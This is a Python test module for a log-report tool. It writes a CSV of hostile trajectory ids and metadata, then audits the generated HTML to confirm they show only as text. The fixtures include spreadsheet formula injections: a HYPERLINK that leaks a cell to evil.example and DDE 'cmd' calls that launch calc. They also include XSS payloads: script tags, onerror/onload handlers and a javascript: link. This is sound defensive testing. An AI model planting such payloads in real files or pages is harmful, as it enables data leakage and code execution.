"""A log whose trajectory ids and metadata are formulas, HTML and Markdown (issue 38, item 4), and
an independent check that an HTML document shows such text only as text."""

from __future__ import annotations

from html.parser import HTMLParser
from pathlib import Path

import numpy as np
import pandas as pd

#: spreadsheet formulas (``=``, ``+``, ``@``, ``-``), HTML and Markdown, as a log may hold them
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-1+1", "=1+1"]
MARKUP = ["<script>alert(1)</script>", "<img src=x onerror=alert(2)>", "[x](javascript:alert(3))", "**b**",
          "</script><svg onload=alert(4)>"]
HOSTILE = FORMULAS + MARKUP
#: the cells a spreadsheet would run as a formula (tpsviz.report.export's triggers)
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def write_log(path: Path, n_plain: int = 14, seed: int = 0) -> Path:
    """A long-format CSV: one run per hostile id and ``n_plain`` plain ones, 3 steps each, a forecast
    ``conf_a``, and run-level metadata ``model`` (hostile values, each on at least two runs) and
    ``note`` (the hostile values in the other order)."""
    rng = np.random.default_rng(seed)
    ids = HOSTILE + [f"r{i}" for i in range(n_plain)]
    rows = []
    for i, tid in enumerate(ids):
        y = int(i % 3 != 0)
        for t in range(1, 4):
            f = float(np.clip(0.5 + (y - 0.5) * 0.4 + rng.normal(0, 0.15), 0.02, 0.98))
            rows.append((tid, t, y, round(f, 3), HOSTILE[i % len(HOSTILE)], HOSTILE[-1 - i % len(HOSTILE)]))
    frame = pd.DataFrame(rows, columns=["trajectory_id", "step", "outcome", "conf_a", "model", "note"])
    frame.to_csv(path, index=False)
    return path


class _Audit(HTMLParser):
    """Every tag and attribute of a document, and its text (scripts apart)."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags, self.attrs, self.text, self.scripts = [], [], [], []
        self._in = None

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attrs += [(tag, k, v or "") for k, v in attrs]
        self._in = tag

    def handle_endtag(self, tag):
        self._in = None

    def handle_data(self, data):
        (self.scripts if self._in == "script" else self.text).append(data)


def audit_html(doc: str) -> dict:
    """What an HTML document makes a browser do with untrusted text, found by parsing it.

    Returns
    -------
    dict
        ``tags`` (set of tag names), ``handlers`` (``on…`` attributes), ``script_urls`` (``href``/``src``
        values with a ``javascript:`` scheme), ``text`` (the visible text, entities decoded),
        ``scripts`` (the inline scripts' text).
    """
    p = _Audit()
    p.feed(doc)
    p.close()
    return {"tags": set(p.tags),
            "handlers": [(t, k) for t, k, _ in p.attrs if k.lower().startswith("on")],
            "script_urls": [v for _, k, v in p.attrs if k.lower() in ("href", "src")
                            and v.strip().lower().startswith("javascript:")],
            "text": "\n".join(p.text), "scripts": "\n".join(p.scripts)}


def assert_shown_as_text(doc: str, values, expected_tags: set | None = None) -> dict:
    """Assert that ``doc`` holds no markup from ``values``: no tag beyond ``expected_tags`` (those a
    report is built of), no event handler, no ``javascript:`` link, no Markdown rendered, and no value
    ending an inline script. Returns the audit."""
    a = audit_html(doc)
    allowed = expected_tags or {"html", "head", "meta", "title", "style", "body", "h1", "h2", "p", "div",
                                "table", "thead", "tbody", "tr", "th", "td", "b", "script", "span", "br"}
    assert a["tags"] <= allowed, a["tags"] - allowed
    assert not a["handlers"] and not a["script_urls"], (a["handlers"], a["script_urls"])
    for v in values:
        assert v not in a["scripts"] or "<" not in v, v  # (in a script only JSON-escaped: \u003c)
    return a
